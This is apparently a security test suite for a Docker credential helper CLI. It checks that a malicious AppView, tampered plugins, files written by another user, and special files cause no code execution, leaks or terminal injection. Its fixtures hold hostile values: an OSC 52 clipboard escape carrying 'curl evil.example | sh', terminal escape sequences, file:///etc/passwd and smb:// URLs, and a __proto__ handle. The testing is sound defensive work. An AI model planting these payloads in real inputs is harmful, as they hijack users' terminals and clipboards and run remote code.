/**
 * The hostile suite (issue 11): a malicious AppView on 127.0.0.1, another local user (uid 65534,
 * `nobody`, through setpriv and chown), files in the config directory that are not files, and a
 * tampered trusted plugin. For each case: the exact expected outcome, nothing executed (hook modules
 * write a marker file when imported), no control character reaching any output, `get` within its time
 * budget, and every secret involved registered for the final secret scan.
 */
import assert from 'node:assert/strict'
import {execFileSync} from 'node:child_process'
import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import path from 'node:path'
import {describe, test} from 'node:test'

import {hooksToTrust} from '../../src/lib/plugins/trusted-on-get.ts'
import type {AppViewEmulator, HostileAnswers} from '../support/appview-emulator.ts'
import {
  addFigure,
  assertOneLineError,
  BIN_RUN,
  type CliResult,
  type Home,
  maxFigure,
  newHome,
  newSecret,
  runCli,
  runProcess,
  snapshot,
  startScannedEmulator,
  v2File,
  writeAccountFile,
} from './harness.ts'
import {alsoSecret, testNoSecretLeaked} from './secrets.ts'

const CATEGORY = 'hostile'
/** `get` may spend 1.5 s on the check; with start-up on a loaded 2-core machine, 4 s is a failure. */
const GET_LIMIT_MS = 4000
const NOBODY = {uid: 65534, gid: 65534}
const BIN = 'docker-credential-atcr'

const ESC = '\u001b'
const OSC52 = `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`
const CSI = `${ESC}[2J${ESC}[31m`
/** Any control character a terminal acts on: C0 (except the newline ending a line), DEL, C1. */
// eslint-disable-next-line no-control-regex -- finding them is the point
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/

function assertNoControls(result: CliResult, what: string): void {
  for (const [stream, text] of [
    ['stdout', result.stdout],
    ['stderr', result.stderr],
  ] as const) {
    const found = CONTROL.exec(text)
    assert.ok(
      !found,
      `${what}: ${stream} holds control character U+${found?.[0].codePointAt(0)?.toString(16).padStart(4, '0')}: ${JSON.stringify(text.slice(0, 400))}`,
    )
  }
  addFigure('hostile: outputs checked free of control characters', 2)
}

function withinBudget(result: CliResult, what: string): void {
  maxFigure('hostile: get max wall ms', Math.round(result.ms))
  assert.ok(
    result.ms <= GET_LIMIT_MS,
    `${what}: get took ${Math.round(result.ms)} ms (limit ${GET_LIMIT_MS})`,
  )
}

/** The emulator, and a home whose only account (alice.test, active) is known to it. */
async function emulatorWithAlice(): Promise<{emulator: AppViewEmulator; home: Home; secret: string}> {
  const emulator = await startScannedEmulator()
  const home = newHome()
  const secret = emulator.addAccount({handle: 'alice.test', did: 'did:plc:alice'})
  writeAccountFile(home, v2File({[emulator.url]: {accounts: [{handle: 'alice.test', secret}]}}))
  return {emulator, home, secret}
}

// ---- a malicious AppView, as seen by get ----------------------------------------------------------

interface GetCase {
  name: string
  hostile?: HostileAnswers
  fault?: Parameters<AppViewEmulator['injectFault']>[0]
  /** The exact stdout, given the registry host and the secret; exit 0 when it is the credentials. */
  expected: (host: string, secret: string, emulator: AppViewEmulator) => {code: number; stdout: string}
}

const expiredLine = (host: string, where: string, said = 'expired') =>
  `${host}: the AT Protocol session of alice.test expired (the AppView says: "${said}"). ${where} or run: ${BIN} login ${host}\n`
const credentials = (host: string, secret: string) =>
  `${JSON.stringify({ServerURL: host, Username: 'alice.test', Secret: secret})}\n`

const tokenError = (body: Record<string, unknown>, status = 401): HostileAnswers => ({
  tokenError: {status, body: {error: 'oauth_session_expired', message: 'expired', ...body}},
})

const getCases: GetCase[] = [
  {
    name: 'a login_url with a newline and a forged second answer line',
    hostile: tokenError({login_url: 'https://atcr.io/login\n{"ServerURL":"x","Username":"y","Secret":"z"}'}),
    expected: (host) => ({code: 1, stdout: expiredLine(host, 'Sign in again')}),
  },
  {
    name: 'a login_url carrying OSC 52 (clipboard) and CSI escapes',
    hostile: tokenError({login_url: `https://atcr.io/login${OSC52}${CSI}`}),
    expected: (host) => ({code: 1, stdout: expiredLine(host, 'Sign in again')}),
  },
  {
    name: 'a file:// login_url',
    hostile: tokenError({login_url: 'file:///etc/passwd'}),
    expected: (host) => ({code: 1, stdout: expiredLine(host, 'Sign in again')}),
  },
  {
    name: 'a login_url with user info',
    hostile: tokenError({login_url: 'https://atcr.io@evil.example/login'}),
    expected: (host) => ({code: 1, stdout: expiredLine(host, 'Sign in again')}),
  },
  {
    name: 'a 403 with an unknown code, a hostile message and a good login_url (the real AppView shape)',
    hostile: {
      tokenError: {
        status: 403,
        body: {error: 'reauth_needed', message: `Sign in ${OSC52}\nagain${CSI}`, login_url: 'LOGIN_URL'},
      },
    },
    expected: (host, _secret, emulator) => ({
      code: 1,
      stdout: expiredLine(host, `Sign in again at ${emulator.url}/oauth/login`, 'Sign in again'),
    }),
  },
  {
    name: 'a 1.5 GB answer',
    fault: {path: '/auth/token', kind: 'huge'},
    expected: (host, secret) => ({code: 0, stdout: credentials(host, secret)}),
  },
  {
    name: 'an answer that trickles one byte every 200 ms',
    fault: {path: '/auth/token', kind: 'trickle'},
    expected: (host, secret) => ({code: 0, stdout: credentials(host, secret)}),
  },
]

function registerGetCases(): void {
  for (const item of getCases) {
    test(`${CATEGORY} › get against a malicious AppView: ${item.name}`, async () => {
      const {emulator, home, secret} = await emulatorWithAlice()
      try {
        if (item.hostile) {
          const raw = JSON.stringify(item.hostile).replaceAll('LOGIN_URL', `${emulator.url}/oauth/login`)
          emulator.setHostile(JSON.parse(raw) as HostileAnswers)
        }
        if (item.fault) emulator.injectFault({...item.fault, count: 10})
        for (const debug of [false, true]) {
          rmSync(path.join(home.dir, 'session-cache.json'), {force: true})
          const result = await runCli(['get'], {
            env: debug ? {...home.env, ATCR_DEBUG: '1'} : home.env,
            input: emulator.host,
            stdoutMayHoldSecret: true,
            label: `get (hostile: ${item.name}${debug ? ', debug' : ''})`,
            timeoutMs: 15_000,
          })
          const expected = item.expected(emulator.host, secret, emulator)
          if (expected.code === 1) {
            assertOneLineError(result, item.name)
            assert.deepEqual(
              {code: result.code, stdout: result.stdout},
              expected,
              `${item.name}: get's answer`,
            )
          } else {
            // Compared, never printed: the expected answer holds the secret.
            assert.ok(
              result.code === 0 && result.stdout === expected.stdout,
              `${item.name}: exit ${result.code} (signal ${result.signal}), not the stored credentials`,
            )
          }
          assertNoControls(result, item.name)
          withinBudget(result, item.name)
        }
      } finally {
        await emulator.close()
      }
    })
  }
}

// ---- a malicious AppView, as seen by people commands ----------------------------------------------

/** Peak resident memory (KiB) of a CLI run, through GNU time. */
async function runMeasured(
  args: string[],
  home: Home,
  label: string,
): Promise<CliResult & {maxRssKb: number}> {
  const out = path.join(home.root, `time-${Math.random().toString(36).slice(2)}`)
  const result = await runProcess(
    '/usr/bin/time',
    ['-f', '%M', '-o', out, process.execPath, BIN_RUN, ...args],
    {
      env: home.env,
      label,
      timeoutMs: 120_000,
    },
  )
  return {...result, maxRssKb: Number(readFileSync(out, 'utf8').trim().split('\n').at(-1))}
}

function registerPeopleCases(): void {
  test(`${CATEGORY} › status against a 1.5 GB answer: "the answer is too large", memory bounded`, async () => {
    const {emulator, home} = await emulatorWithAlice()
    try {
      emulator.injectFault({path: '/auth/token', kind: 'huge', count: 10})
      const result = await runMeasured(['status', emulator.host], home, 'status (hostile: 1.5 GB answer)')
      assert.deepEqual(result.code, 0, `status exit (stderr ${result.stderr.slice(0, 300)})`)
      assert.ok(
        /alice\.test.*unreachable \(the answer is too large\)/.test(result.stdout + result.stderr),
        `status does not say the answer is too large: ${result.stdout}${result.stderr}`,
      )
      maxFigure('hostile: status peak RSS under a 1.5 GB answer (MB)', Math.round(result.maxRssKb / 1024))
      assert.ok(result.maxRssKb < 250 * 1024, `status peaked at ${Math.round(result.maxRssKb / 1024)} MB`)
      assertNoControls(result, 'status under a huge answer')
    } finally {
      await emulator.close()
    }
  })

  test(`${CATEGORY} › status against an expired session with escapes in message and login_url: clean lines`, async () => {
    const {emulator, home} = await emulatorWithAlice()
    try {
      emulator.expireSession('alice.test', {
        error: 'x',
        message: `${CSI}bad${OSC52}\nnews`,
        loginUrl: `${emulator.url}/login${OSC52}`,
      })
      const result = await runCli(['status', emulator.host], {
        env: home.env,
        label: 'status (hostile session)',
      })
      assert.deepEqual(result.code, 1, 'status exit (an account needs a new login)')
      // status's table moves to stdout with issue 10; either stream will do here.
      assert.ok(
        (result.stdout + result.stderr).includes(`session expired: sign in at ${emulator.url} or run`),
        `status should send the person to the AppView itself: ${result.stdout}${result.stderr}`,
      )
      assertNoControls(result, 'status with a hostile expired session')
    } finally {
      await emulator.close()
    }
  })

  test(`${CATEGORY} › login against a hostile device code: clean code, no file:// or smb:// opened, clean handle saved`, async () => {
    const emulator = await startScannedEmulator({interval: 0.2})
    try {
      const home = newHome()
      mkdirSync(home.dir, {recursive: true, mode: 0o700})
      // A $BROWSER that records what it was asked to open (one line per argument).
      const opened = path.join(home.root, 'opened')
      const browser = path.join(home.root, 'browser.sh')
      writeFileSync(browser, `#!/bin/sh\nfor a in "$@"; do printf '%s\\n' "$a" >> '${opened}'; done\n`)
      chmodSync(browser, 0o755)
      emulator.setHostile({
        deviceCode: {
          user_code: `WDJB${OSC52}-MJHT\n${CSI}`,
          verification_uri: 'file:///etc/passwd',
          verification_uri_complete: 'smb://evil.example/share',
        },
        approved: {handle: `alice.test${CSI}`, did: `did:plc:alice${OSC52}`},
      })
      emulator.approveNext({handle: 'alice.test', did: 'did:plc:alice'})
      const result = await runCli(['login', emulator.host], {
        env: {...home.env, BROWSER: browser},
        label: 'login (hostile device code)',
        timeoutMs: 40_000,
      })
      assert.deepEqual(result.code, 0, `login exit (stderr ${JSON.stringify(result.stderr.slice(0, 600))})`)
      assertNoControls(result, 'login with a hostile device code')
      assert.ok(result.stderr.includes('WDJB-MJHT'), `the clean code is not shown: ${result.stderr}`)
      assert.ok(
        !/file:|smb:/.test(result.stdout + result.stderr),
        `a refused link was printed: ${result.stderr}`,
      )
      for (let i = 0; i < 50 && !existsSync(opened); i++) await new Promise((r) => setTimeout(r, 20))
      const asked = existsSync(opened) ? readFileSync(opened, 'utf8') : ''
      assert.ok(
        asked === '' || asked === `${emulator.url}/\n`,
        `the browser was asked to open ${JSON.stringify(asked)}, not only the AppView's own address`,
      )
      const saved = JSON.parse(readFileSync(home.file, 'utf8')) as {
        registries: Record<string, {accounts: Record<string, {handle: string; did: string}>}>
      }
      const accounts = Object.values(saved.registries)[0]!.accounts
      assert.deepEqual(Object.keys(accounts), ['alice.test'], 'saved handle')
      assert.deepEqual(accounts['alice.test']!.did, 'did:plc:alice', 'saved DID')
    } finally {
      await emulator.close()
    }
  })
}

/**
 * The login side of a bad identity (validation, revoking the issued secret) is another change's; this
 * case asserts the end-to-end outcome the issue asks for.
 */
function registerBadHandleLoginCase(): void {
  test(`${CATEGORY} › login when the AppView returns the handle __proto__: fails, nothing saved, the issued secret revoked`, async () => {
    const issued: string[] = []
    const emulator = await startScannedEmulator({interval: 0.2, onSecretIssued: (s) => issued.push(s)})
    try {
      const home = newHome()
      mkdirSync(home.dir, {recursive: true, mode: 0o700})
      const before = snapshot(home.dir)
      emulator.setHostile({approved: {handle: '__proto__'}})
      emulator.approveNext({handle: 'alice.test', did: 'did:plc:alice'})
      const result = await runCli(['login', emulator.host, '--no-browser'], {
        env: home.env,
        label: 'login (handle __proto__)',
        timeoutMs: 40_000,
      })
      assert.deepEqual(result.code, 1, `login exit (stderr ${JSON.stringify(result.stderr.slice(0, 400))})`)
      assert.deepEqual(snapshot(home.dir), before, 'config directory unchanged')
      assert.deepEqual(issued.length, 1, 'secrets issued')
      assert.ok(
        emulator.requests.some((request) => request.method === 'DELETE'),
        'the issued secret was not revoked',
      )
    } finally {
      await emulator.close()
    }
  })
}

// ---- files that decide what code runs ------------------------------------------------------------

interface PluginSetup {
  home: Home
  marker: string
  pluginRoot: string
  hook: string
  trustFile: string
  /** The credentials the plugin's answer (bob) would produce. */
  bobAnswer: string
}

/**
 * Two accounts, none active, and a trusted plugin whose hook names bob and, when imported, writes a
 * marker file: so a get that answers bob, or a marker on disk, means the plugin ran.
 */
function pluginSetup(): PluginSetup {
  const home = newHome('atcr-hostile-')
  const host = 'localhost:5999'
  const alice = newSecret('ha')
  const bob = newSecret('hb')
  writeAccountFile(
    home,
    v2File({
      'http://localhost:5999': {
        accounts: [
          {handle: 'alice.test', secret: alice},
          {handle: 'bob.test', secret: bob},
        ],
        active: null,
      },
    }),
  )
  const marker = path.join(home.root, 'plugin-ran')
  const pluginRoot = path.join(home.root, 'plugin')
  mkdirSync(path.join(pluginRoot, 'hooks'), {recursive: true})
  writeFileSync(path.join(pluginRoot, 'package.json'), '{"name": "atcr-plugin-evil", "version": "1.0.0"}\n')
  const hook = path.join(pluginRoot, 'hooks', 'identity.mjs')
  writeFileSync(
    hook,
    `import {writeFileSync} from 'node:fs'\nwriteFileSync(${JSON.stringify(marker)}, 'ran')\nexport default () => 'bob.test'\n`,
  )
  const trustFile = path.join(home.dir, 'plugins-on-get.json')
  const settings = {
    version: 1,
    plugins: {
      'atcr-plugin-evil': {
        version: '1.0.0',
        root: pluginRoot,
        hooks: hooksToTrust(pluginRoot, [{file: hook, export: 'default'}]),
      },
    },
  }
  writeFileSync(trustFile, `${JSON.stringify(settings, null, 2)}\n`, {mode: 0o600})
  const bobAnswer = `${JSON.stringify({ServerURL: host, Username: 'bob.test', Secret: bob})}\n`
  return {home, marker, pluginRoot, hook, trustFile, bobAnswer}
}

async function pluginGet(setup: PluginSetup, label: string): Promise<CliResult> {
  const result = await runCli(['get'], {
    env: {...setup.home.env, ATCR_DEBUG: '1', ATCR_SESSION_CHECK: '0'},
    input: 'localhost:5999',
    stdoutMayHoldSecret: true,
    label,
    timeoutMs: 15_000,
  })
  withinBudget(result, label)
  return result
}

/** The plugin did not run: no marker, and get answered as without plugins (no account chosen). */
function assertNotRun(setup: PluginSetup, result: CliResult, why: RegExp, what: string): void {
  assert.ok(!existsSync(setup.marker), `${what}: the plugin's code ran`)
  assert.deepEqual(
    result.stdout,
    `Multiple accounts for localhost:5999. Run: ${BIN} switch\n`,
    `${what}: get answers as without plugins`,
  )
  assert.ok(
    why.test(result.stderr),
    `${what}: ATCR_DEBUG does not say ${why}: ${result.stderr.slice(0, 600)}`,
  )
  addFigure('hostile: plugin attacks that executed nothing')
}

function registerPluginCases(): void {
  test(`${CATEGORY} › control: a trusted plugin that is the user's own and unchanged does run on get`, async () => {
    const setup = pluginSetup()
    const result = await pluginGet(setup, 'get (trusted plugin, control)')
    assert.deepEqual(result.stdout, setup.bobAnswer, 'the plugin named bob')
    assert.ok(
      existsSync(setup.marker),
      'the control plugin did not run: the attack cases would prove nothing',
    )
  })

  test(`${CATEGORY} › another user writes plugins-on-get.json into a 0777 config directory: nothing runs`, async () => {
    const setup = pluginSetup()
    // The victim's directory is world-writable; the attacker (uid 65534) replaces the settings file.
    chmodSync(setup.home.root, 0o755)
    chmodSync(setup.home.dir, 0o777)
    const staged = path.join(setup.home.root, 'staged.json')
    writeFileSync(staged, readFileSync(setup.trustFile))
    chmodSync(staged, 0o644)
    rmSync(setup.trustFile)
    const copy = await runProcess('/bin/cp', [staged, setup.trustFile], {
      env: {PATH: process.env.PATH},
      asUser: NOBODY,
      label: 'cp as nobody',
    })
    assert.deepEqual(copy.code, 0, `cp as uid 65534: ${copy.stderr}`)
    assertNotRun(
      setup,
      await pluginGet(setup, 'get (settings by another user)'),
      /plugins skipped: .*owned by uid 65534|writable by/,
      'settings by another user',
    )
  })

  test(`${CATEGORY} › the user's own plugins-on-get.json in a group-writable config directory: nothing runs`, async () => {
    const setup = pluginSetup()
    chmodSync(setup.home.dir, 0o770)
    assertNotRun(
      setup,
      await pluginGet(setup, 'get (loose config directory)'),
      new RegExp(`plugins skipped: .*writable by the group .*chmod 700`),
      'loose config directory',
    )
  })

  test(`${CATEGORY} › \`plugins\` warns about a loose config directory with the exact chmod`, async () => {
    const home = newHome()
    mkdirSync(home.dir, {recursive: true})
    chmodSync(home.dir, 0o777)
    const result = await runCli(['plugins'], {
      env: {
        ...home.env,
        XDG_DATA_HOME: path.join(home.root, 'data'),
        XDG_CACHE_HOME: path.join(home.root, 'cache'),
      },
      label: 'plugins (loose config directory)',
      timeoutMs: 60_000,
    })
    assert.deepEqual(result.code, 0, `plugins exit (stderr ${result.stderr.slice(0, 300)})`)
    assert.ok(
      result.stderr.includes(
        `Warning: ${home.dir} is writable by the group and others (mode 777): someone else could choose the code that runs on get, so plugins trusted on get are ignored. Fix it: chmod 700 '${home.dir}'\n`,
      ),
      `no loose-directory warning: ${result.stderr}`,
    )
  })

  test(`${CATEGORY} › a trusted hook rewritten in place: nothing runs`, async () => {
    const setup = pluginSetup()
    writeFileSync(setup.hook, readFileSync(setup.hook, 'utf8').replace("'bob.test'", "'alice.test'"))
    assertNotRun(
      setup,
      await pluginGet(setup, 'get (tampered hook)'),
      /plugin atcr-plugin-evil: .*not run until "plugins trust atcr-plugin-evil"/,
      'tampered hook',
    )
  })

  test(`${CATEGORY} › a trusted hook swapped for a symlink out of the plugin root (same bytes): nothing runs`, async () => {
    const setup = pluginSetup()
    const outside = path.join(setup.home.root, 'outside.mjs')
    writeFileSync(outside, readFileSync(setup.hook))
    rmSync(setup.hook)
    symlinkSync(outside, setup.hook)
    assertNotRun(
      setup,
      await pluginGet(setup, 'get (hook outside root)'),
      /not run until "plugins trust atcr-plugin-evil"/,
      'hook outside root',
    )
  })

  test(`${CATEGORY} › a trusted hook file owned by another user: nothing runs`, async () => {
    const setup = pluginSetup()
    chownSync(setup.hook, NOBODY.uid, NOBODY.gid)
    assertNotRun(
      setup,
      await pluginGet(setup, 'get (hook by another user)'),
      /not run until "plugins trust atcr-plugin-evil"/,
      'hook by another user',
    )
  })
}

// ---- files that are not files --------------------------------------------------------------------

function registerSpecialFileCases(): void {
  for (const name of ['plugins-on-get.json', 'session-cache.json']) {
    for (const kind of ['FIFO', 'symlink to /dev/zero'] as const) {
      test(`${CATEGORY} › a ${kind} at ${name}: get answers within its budget`, async () => {
        const {emulator, home, secret} = await emulatorWithAlice()
        try {
          const target = path.join(home.dir, name)
          if (kind === 'FIFO') execFileSync('mkfifo', [target])
          else symlinkSync('/dev/zero', target)
          const before = snapshot(home.dir)
          const result = await runCli(['get'], {
            env: home.env,
            input: emulator.host,
            stdoutMayHoldSecret: true,
            label: `get (${kind} at ${name})`,
            timeoutMs: 10_000,
          })
          // Compared, never printed: the expected answer holds the secret.
          assert.ok(
            result.code === 0 && result.stdout === credentials(emulator.host, secret),
            `get with a ${kind} at ${name}: exit ${result.code} (signal ${result.signal}), stdout ${result.stdout.length} bytes, not the stored credentials`,
          )
          withinBudget(result, `${kind} at ${name}`)
          assert.deepEqual(snapshot(home.dir), before, 'the config directory is unchanged')
        } finally {
          await emulator.close()
        }
      })
    }
  }
}

// ---- echoed input ------------------------------------------------------------------------------------

function registerEchoCases(): void {
  test(`${CATEGORY} › configure-docker on a corrupt config.json quotes none of its auth credential`, async () => {
    const home = newHome()
    const secret = newSecret('cd')
    const auth = Buffer.from(`alice.test:${secret}`).toString('base64')
    alsoSecret(auth)
    const dockerDir = home.env.DOCKER_CONFIG!
    mkdirSync(dockerDir, {recursive: true})
    // Broken right inside the credential, where Node's message quotes the text around the error.
    const text = `{"auths": {"atcr.io": {"auth": ${auth}}}}\n`
    writeFileSync(path.join(dockerDir, 'config.json'), text)
    const result = await runCli(['configure-docker'], {
      env: home.env,
      label: 'configure-docker (corrupt config.json)',
    })
    assert.deepEqual(result.code, 1, `configure-docker exit (stderr ${result.stderr.slice(0, 300)})`)
    assert.ok(/not valid JSON/.test(result.stderr), `no clear error: ${result.stderr}`)
    assert.deepEqual(readFileSync(path.join(dockerDir, 'config.json'), 'utf8'), text, 'config.json untouched')
  })
}

registerGetCases()
registerPeopleCases()
describe('hostile plugins, special files, echoes', {concurrency: 2}, () => {
  registerPluginCases()
  registerSpecialFileCases()
  registerEchoCases()
})
registerBadHandleLoginCase()
testNoSecretLeaked()
